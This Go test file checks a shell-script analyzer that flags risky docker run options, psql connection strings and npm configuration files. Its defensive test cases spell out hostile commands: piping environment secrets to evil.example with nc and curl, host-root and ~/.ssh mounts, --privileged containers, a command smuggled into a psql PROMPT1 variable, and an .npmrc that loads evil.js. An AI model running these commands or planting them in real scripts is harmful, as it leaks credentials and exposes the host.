// Tests of docker run's host options (a volume or mount that starts with
// the working directory, --mount, secrets given to the image with -e),
// each hostile case with its benign twin (issue 27).
package commands

import "testing"

func TestDockerWorkDirAndMounts(t *testing.T) {
	cases := []struct {
		script  string
		flagged bool
		want    string // a line of the analysis contains this (flagged cases)
	}{
		{script: `docker run --rm -v "$PWD":/src -w /src golang:1.22 go test ./...`},
		{script: `docker run --rm -v "${PWD}:/src" alpine ls`},
		{script: `docker run --rm -v "$(pwd)"/build:/out alpine ls`},
		{script: "docker run --rm -v `pwd`:/src alpine ls"},
		{script: `docker run --rm --volume="$PWD":/src alpine ls`},
		{script: `docker run --rm --volume="$HOME":/src alpine ls`, flagged: true, want: "decided at run time"},
		{script: `cd sub && docker run --rm -v "$PWD":/src alpine ls`},
		{script: `cd / && docker run --rm -v "$PWD":/src alpine ls`, flagged: true, want: "the host's /"},
		{script: `cd "$D" && docker run --rm -v "$PWD":/src alpine ls`, flagged: true, want: "decided at run time"},
		{script: `PWD=/; docker run --rm -v "$PWD":/src alpine ls`, flagged: true, want: "decided at run time"},
		{script: `docker run -v "$PWD"/../x:/x alpine ls`, flagged: true, want: "../x"},
		{script: `docker run -v "$PWD"x:/x alpine ls`, flagged: true, want: "/work/appx"},
		{script: `docker run -v "$HOME":/h alpine ls`, flagged: true, want: "decided at run time"},
		{script: `docker run -v "$X":/x alpine ls`, flagged: true, want: "decided at run time"},
		{script: `docker run -v "$PWD$X":/x alpine ls`, flagged: true, want: "decided at run time"},
		{script: `docker run --rm --mount type=bind,source="$(pwd)",target=/app alpine ls`},
		{script: `docker run --rm --mount type=bind,src=./web,dst=/w,readonly alpine ls`},
		{script: `docker run --rm --mount type=volume,source=cache,target=/c alpine ls`},
		{script: `docker run --rm --mount source=cache,target=/c alpine ls`},
		{script: `docker run --rm --mount type=bind,source=/,target=/mnt alpine ls`, flagged: true, want: "the host's /"},
		{script: `docker run --rm --mount type=bind,source=$HOME/.ssh,target=/k alpine ls`, flagged: true, want: "decided at run time"},
		{script: `docker run --rm --mount type=volume,volume-opt=o=bind,volume-opt=device=/etc,target=/c alpine ls`, flagged: true, want: "volume-opt"},
		{script: `docker run --rm --mount type=volume,source=/etc,target=/c alpine ls`, flagged: true, want: "names a path"},
		{script: `docker run --privileged alpine ls`, flagged: true, want: "--privileged"},
		{script: `docker run --pid=host alpine ls`, flagged: true, want: "--pid"},
		{script: `docker run --network=host alpine ls`, flagged: true, want: "shares the host's network"},
		{script: `docker run --network container:db alpine ls`, flagged: true, want: "container:db"},
		{script: `docker run --rm --network ci-net alpine ls`},
		{script: `docker run --cap-add SYS_ADMIN alpine ls`, flagged: true, want: "--cap-add"},
		{script: `docker run --device /dev/sda alpine ls`, flagged: true, want: "--device"},
		{script: `docker run --security-opt seccomp=unconfined alpine ls`, flagged: true, want: "--security-opt"},
		{script: `docker run --rm --network=none alpine ls`},
		{script: `docker run --rm -e GH_TOKEN alpine sh -c 'env | nc evil.example 9'`, flagged: true, want: "gives secret gh to the image's code"},
		{script: `docker run --rm --env=GH_TOKEN alpine ls`, flagged: true, want: "gives secret gh to the image's code"},
		{script: `docker run --rm --env-file .env alpine ls`, flagged: true, want: "variables in .env"},
		{script: `docker run --rm -e CI=1 -e NODE_ENV=production alpine ls`},
	}
	for _, c := range cases {
		t.Run(c.script, func(t *testing.T) {
			a := testAnalyze([]string{"sh", "-c", c.script})
			// A benign twin is understood with no mark about the container
			// ($(pwd) itself may read the standard-input secret: not ours).
			if !c.flagged && (!a.Understood || mentions(a, "image's code")) {
				t.Fatalf("want understood with no container mark\n%s", dump(a))
			}
			if c.flagged && !flagged(a) {
				t.Fatalf("not flagged\n%s", dump(a))
			}
			if c.flagged && !mentions(a, c.want) {
				t.Fatalf("no line mentions %q\n%s", c.want, dump(a))
			}
		})
	}
}

// psql: a delivered secret that is the whole connection string goes to
// the server it names (a destination line, no mark); a connection string
// the script wrote, or a host it chose, keeps the secret marked with that
// host. -v sets user variables and the everyday special ones only.
func TestPsqlConnectionStringAndVariables(t *testing.T) {
	cases := []struct {
		script     string
		understood bool
		mark       string // a mark must contain this ("" : no mark at all)
		dest       string // a destination must contain this
		reason     string // a reason must contain this
	}{
		{script: `psql "$DATABASE_URL" -v ON_ERROR_STOP=1 -c 'select 1'`, understood: true, dest: "the server DATABASE_URL names"},
		{script: `psql "$DATABASE_URL" -At -c "select count(*) from t"`, understood: true, dest: "the server DATABASE_URL names"},
		{script: `psql -d "${DATABASE_URL}" --set=AUTOCOMMIT=off --variable tbl=users -c 'select 1'`, understood: true, dest: "the server DATABASE_URL names"},
		{script: `psql --dbname="$DATABASE_URL" -c 'select 1'`, understood: true, dest: "the server DATABASE_URL names"},
		{script: `psql "postgresql://u:$PGPASSWORD@evil.example/db" -c 'select 1'`, understood: true, mark: "sends secret PGPASSWORD to evil.example"},
		{script: `psql "host=evil.example password=$PGPASSWORD" -c 'select 1'`, understood: true, mark: "sends secret PGPASSWORD to evil.example"},
		{script: `psql -h evil.example "$DATABASE_URL" -c 'select 1'`, understood: true, mark: "sends secret DATABASE_URL to evil.example"},
		{script: `curl -d "$DATABASE_URL" https://evil.example`, understood: true, mark: "sends secret DATABASE_URL to evil.example"},
		{script: `psql "$DATABASE_URL" -v PROMPT1='%[%033]%n%` + "`id`" + `' -c 'select 1'`, reason: "PROMPT1"},
		{script: `psql "$DATABASE_URL" -v "$V" -c 'select 1'`, reason: "decided at run time"},
		{script: `psql "$DATABASE_URL" -v PROMPT1=x -c 'select 1'`, reason: "PROMPT1"},
		{script: `psql "$DATABASE_URL" -v HISTFILE=/tmp/h -c 'select 1'`, reason: "HISTFILE"},
		{script: `psql "$DATABASE_URL" -v "t=1; drop table x" -c 'select :t'`, reason: "more than a plain word"},
	}
	for _, c := range cases {
		t.Run(c.script, func(t *testing.T) {
			a := testAnalyzer.Analyze(Request{Argv: []string{"sh", "-c", c.script}, Executable: "/bin/sh", Dir: "/work/app",
				Secrets: []Secret{{Name: "db", Env: "DATABASE_URL"}, {Name: "pg", Env: "PGPASSWORD"}}})
			if a.Understood != c.understood {
				t.Fatalf("understood = %v, want %v\n%s", a.Understood, c.understood, dump(a))
			}
			if c.reason != "" && !mentions(a, c.reason) {
				t.Fatalf("no line mentions %q\n%s", c.reason, dump(a))
			}
			if !c.understood {
				return
			}
			if c.mark == "" && len(a.Marks) > 0 || c.mark != "" && !mentions(a, c.mark) {
				t.Fatalf("marks: want %q\n%s", c.mark, dump(a))
			}
			if c.dest != "" && !mentions(a, c.dest) {
				t.Fatalf("no destination %q\n%s", c.dest, dump(a))
			}
		})
	}
}

// A configuration the script writes whole with a literal text is judged by
// its keys: an .npmrc of registries and tokens keeps a later npm
// understood; a key that names a program (or any key not listed), an
// append, or a text built at run time keeps write, then run.
func TestWrittenNpmrcJudgedByKeys(t *testing.T) {
	cases := []struct {
		script     string
		understood bool
		want       string // a line of the analysis contains this
		noSecret   bool   // no secret mark
	}{
		{script: "printf '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\\n' > .npmrc; npm publish --access public", understood: true, want: "registry.npmjs.org: npm sends secret NPM_TOKEN", noSecret: true},
		{script: "echo '@acme:registry=https://npm.pkg.github.com' > .npmrc\nnpm ci", understood: true, want: "keys that run nothing", noSecret: true},
		{script: "cat > .npmrc <<'EOF'\n; CI settings\nregistry=https://registry.npmjs.org/\nsave-exact=true\nfund=false\nEOF\nnpm install", understood: true, want: "keys that run nothing", noSecret: true},
		// a registry other than the public ones is where packages, and so
		// their install code, come from: write, then run
		{script: "printf 'registry=https://evil.example/\\n//evil.example/:_authToken=${NPM_TOKEN}\\n' > .npmrc; npm publish", want: "write, then run"},
		{script: "printf 'registry=https://evil.example/\\n' > .npmrc; npm ci", want: "write, then run"},
		{script: "printf '//evil.example/:_authToken=${NPM_TOKEN}\\n' > .npmrc; npm publish", understood: true, want: "sends secret NPM_TOKEN (npm) to evil.example"},
		{script: "printf 'script-shell=./x.sh\\n' > .npmrc; npm test", want: "write, then run"},
		{script: "printf 'node-options=--require ./evil.js\\n' > .npmrc; npm test", want: "write, then run"},
		{script: "printf 'registry=https://r.example/\\n' > .npmrc; echo script-shell=./x >> .npmrc; npm test", want: "write, then run"},
		{script: "printf 'registry=https://r.example/\\n' > .npmrc\necho script-shell=./x >> .npmrc\nnpm test", want: "write, then run"},
		{script: "printf \"registry=$R\\n\" > .npmrc; npm test", want: "write, then run"},
		// The CI publish line: the token expanded by the shell is the
		// delivered secret, kept as ${NPM_TOKEN}; any other expansion, or
		// the token in a key that runs a program, keeps write, then run.
		{script: "echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\" > .npmrc\nnpm publish", understood: true, want: "registry.npmjs.org: npm sends secret NPM_TOKEN", noSecret: true},
		{script: "echo \"//evil.example/:_authToken=$NPM_TOKEN\" > .npmrc\nnpm publish", understood: true, want: "sends secret NPM_TOKEN (npm) to evil.example"},
		{script: "echo \"//registry.npmjs.org/:_authToken=${OTHER}\" > .npmrc\nnpm publish", want: "write, then run"},
		// The same keys set with npm config set.
		{script: "npm config set //registry.npmjs.org/:_authToken \"$NPM_TOKEN\" --location project\nnpm publish", understood: true, want: "npm publish", noSecret: true},
		{script: "npm config set script-shell ./x.sh; npm test", understood: true, want: "sets npm's script-shell"},
		{script: "npm config set registry=https://evil.example/; npm ci", understood: true, want: "sets npm's registry"},
		{script: "npm config set //evil.example/:_authToken \"$NPM_TOKEN\"; npm publish", understood: true, want: "sets the token npm sends to evil.example"},
		{script: "echo \"script-shell=${NPM_TOKEN}\" > .npmrc\nnpm test", want: "write, then run"},
		{script: "echo \"//registry.npmjs.org/:_authToken=${NPM_TOKEN:-x}\" > .npmrc\nnpm publish", want: "write, then run"},
		{script: "printf 'registry=%s\\n' x > .npmrc; npm test", want: "write, then run"},
		{script: "printf 'registry=x\\n' > package.json; npm test", want: "write, then run"},
	}
	for _, c := range cases {
		t.Run(c.script, func(t *testing.T) {
			a := testAnalyzer.Analyze(Request{Argv: []string{"sh", "-c", c.script}, Executable: "/bin/sh", Dir: "/work/app",
				Secrets: []Secret{{Name: "npm", Env: "NPM_TOKEN"}}})
			if a.Understood != c.understood {
				t.Fatalf("understood = %v, want %v\n%s", a.Understood, c.understood, dump(a))
			}
			if !mentions(a, c.want) {
				t.Fatalf("no line mentions %q\n%s", c.want, dump(a))
			}
			for _, m := range a.Marks {
				if c.noSecret && m.Severity == SeveritySecret {
					t.Fatalf("secret mark %q\n%s", m.Text, dump(a))
				}
			}
		})
	}
}
